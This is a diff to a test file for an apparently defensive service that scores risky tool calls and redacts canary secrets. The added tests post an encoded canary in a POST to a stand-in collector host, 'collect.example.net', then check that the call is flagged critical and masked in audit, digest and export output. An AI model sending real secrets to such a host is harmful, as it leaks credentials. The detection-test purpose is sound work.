@@ -8,7 +8,10 @@
  *   `dashboard.token` of any printable format is used and never rewritten
  *   (also across a restart), and `localhost_only = false` with
  *   `require_api_key` and an `api_key` starts and serves requests carrying
- *   `x-svc-api-key`.
+ *   `x-svc-api-key`;
+ * - canaries are found in every encoding a recipient can undo, and what is
+ *   stored (audit summary, digest item, export) withholds them; a supplied
+ *   value under 12 characters is 400 INVALID_VALUE.
  */
 import { randomBytes, randomUUID } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
@@ -17,6 +20,7 @@ import { request } from 'undici';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { ConformanceContext } from './context.ts';
 import { digestClient, type DigestClient, type Json } from './digest-client.ts';
+import { ENCODINGS } from '../support/canary-encodings.ts';
 import type { RunningHost } from '../support/host-process.ts';
 
 /** A call that scores far above 10 without the override, carrying `value` out. */
@@ -31,6 +35,7 @@ async function auditRecord(d: DigestClient, sessionId: string): Promise<Json> {
   return listed.body.records[0] as Json;
 }
 
+const MASK = '[REDACTED]';
 const API_KEY = `key-${randomBytes(16).toString('hex')}`;
 const PRESET_TOKEN = 'installer:Tok-ABC.def/123=';
 const PRESET_FILE = `${PRESET_TOKEN}\n`;
@@ -108,6 +113,39 @@ export function integritySuite(ctx: ConformanceContext): void {
       const item = (page.body.items as Json[]).find((i) => i.id === res.digest_id);
       expect(item?.composite_score).toBe(9.5);
       expect((await auditRecord(d, session)).composite_score).toBe(9.5);
+    });
+
+    it('a canary is found in every encoding a recipient can undo; audit, digest and export withhold it', async () => {
+      const d = await client();
+      const sent: Array<{ name: string; payload: string; session: string; digestId: string }> = [];
+      for (const [name, encode] of ENCODINGS) {
+        const payload = encode(CANARY);
+        const session = randomUUID();
+        const res = await d.evaluate({ type: 'HttpRequest', method: 'POST', url: 'https://collect.example.net/in', body: payload }, { session_id: session });
+        expect([res.composite_score, res.action], name).toEqual([9.5, 'queue(Critical)']);
+        sent.push({ name, payload, session, digestId: String(res.digest_id) });
+      }
+      const digest = (await d.get('/api/digest?limit=100')).body.items as Json[];
+      // Withheld whole, or masked already as the credential shape it has (an AWS key id here).
+      for (const { name, payload, session, digestId } of sent) {
+        for (const summary of [(await auditRecord(d, session)).arguments_summary, digest.find((i) => i.id === digestId)?.arguments_summary]) {
+          expect(summary, name).toContain(MASK);
+          expect(summary, name).not.toContain(JSON.stringify(payload).slice(1, 25));
+        }
+      }
+      const exported = JSON.stringify((await d.get('/api/audit/export?format=json&limit=1000')).body);
+      expect(exported.toLowerCase()).not.toContain(CANARY.toLowerCase());
+      for (const { name, payload } of sent) expect(exported, name).not.toContain(JSON.stringify(payload).slice(1, 25));
+    });
+
+    it('a supplied canary value under 12 characters is 400 INVALID_VALUE; 12 are accepted', async () => {
+      const d = await client();
+      const short = await d.post('/api/canaries', { label: 'too short', value: 'abcdefghijk' });
+      expect([short.status, short.body.code]).toEqual([400, 'INVALID_VALUE']);
+      const ok = await d.post('/api/canaries', { label: 'just long enough', value: randomBytes(6).toString('hex') });
+      expect(ok.status).toBe(201);
+      await request(`${running().baseUrl}/api/canaries/${ok.body.id}`, { method: 'DELETE', headers: { 'x-svc-csrf': d.dashboard, 'x-svc-api-key': API_KEY } })
+        .then((r) => r.body.dump());
     });
 
     it('a preset dashboard.token of another format is the token, byte for byte unchanged, also after a restart', async () => {
